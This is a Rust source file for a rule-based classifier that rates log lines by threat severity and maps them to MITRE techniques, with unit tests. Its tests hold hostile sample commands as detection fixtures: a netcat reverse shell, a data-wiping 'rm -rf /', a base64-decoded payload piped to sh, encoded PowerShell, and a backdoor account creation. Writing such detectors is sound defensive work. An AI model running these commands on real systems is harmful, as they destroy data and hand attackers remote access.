//! Heuristic Classifier
//!
//! First-match-wins evaluation over the ordered rule table. Deterministic,
//! no external service, no state.

use crate::logic::analysis::types::{Severity, Verdict};

use super::rules::{NO_TECHNIQUE, ROUTINE_ACTIONS, ROUTINE_SUMMARY, RULE_TABLE, SIMULATED_MARKER};

/// Classify log text against the rule table.
///
/// Rules are evaluated in table order; the first matching rule produces
/// the verdict. Text matching no rule gets the routine baseline tier.
pub fn classify(text: &str) -> Verdict {
    for rule in RULE_TABLE.iter() {
        if rule.pattern.is_match(text) {
            log::debug!("heuristic rule {} matched", rule.id);
            return Verdict {
                threat_summary: rule.threat_summary.to_string(),
                severity: rule.severity,
                mitre_technique: Some(rule.mitre_technique.to_string()),
                recommended_actions: Some(
                    rule.recommended_actions.iter().map(|a| a.to_string()).collect(),
                ),
                raw_response: SIMULATED_MARKER.to_string(),
                is_conversational: false,
            };
        }
    }

    Verdict {
        threat_summary: ROUTINE_SUMMARY.to_string(),
        severity: Severity::Low,
        mitre_technique: Some(NO_TECHNIQUE.to_string()),
        recommended_actions: Some(ROUTINE_ACTIONS.iter().map(|a| a.to_string()).collect()),
        raw_response: SIMULATED_MARKER.to_string(),
        is_conversational: false,
    }
}

// ============================================================================
// TESTS
// ============================================================================

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_critical_rule_wins_over_suspicious() {
        // Contains both a brute-force marker and a web-shell reference:
        // the critical rule sits first in the table and must win.
        let text = "Failed password for root from 10.0.0.5; GET /uploads/shell.php HTTP/1.1";
        let verdict = classify(text);
        assert_eq!(verdict.severity, Severity::Critical);
        assert!(verdict.mitre_technique.unwrap().contains("Command and Scripting Interpreter"));
    }

    #[test]
    fn test_suspicious_only_classification() {
        let text = "Feb 14 08:23:15 server sshd[2541]: Failed password for root from 192.168.1.105 port 22 ssh2";
        let verdict = classify(text);
        assert_eq!(verdict.severity, Severity::High);
        assert!(verdict.mitre_technique.unwrap().contains("Brute Force"));
        assert_eq!(verdict.recommended_actions.unwrap().len(), 5);
    }

    #[test]
    fn test_critical_markers() {
        for sample in [
            "cmd: powershell.exe -enc SQBFAFgA",
            "bash: rm -rf / --no-preserve-root",
            "mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f",
            "echo cGF5bG9hZA== | base64 --decode | sh",
            "C:\\> net user backdoor P@ss1 /add",
        ] {
            let verdict = classify(sample);
            assert_eq!(verdict.severity, Severity::Critical, "{}", sample);
        }
    }

    #[test]
    fn test_routine_classification() {
        let text = "service nginx reloaded configuration successfully at 04:00";
        let verdict = classify(text);
        assert_eq!(verdict.severity, Severity::Low);
        assert_eq!(verdict.mitre_technique.as_deref(), Some(NO_TECHNIQUE));
        assert_eq!(verdict.recommended_actions.unwrap().len(), 3);
        assert_eq!(verdict.raw_response, SIMULATED_MARKER);
    }

    #[test]
    fn test_never_conversational() {
        assert!(!classify("anything at all").is_conversational);
    }

    #[test]
    fn test_deterministic() {
        let text = "sudo su - attempted by user guest";
        assert_eq!(classify(text), classify(text));
    }
}
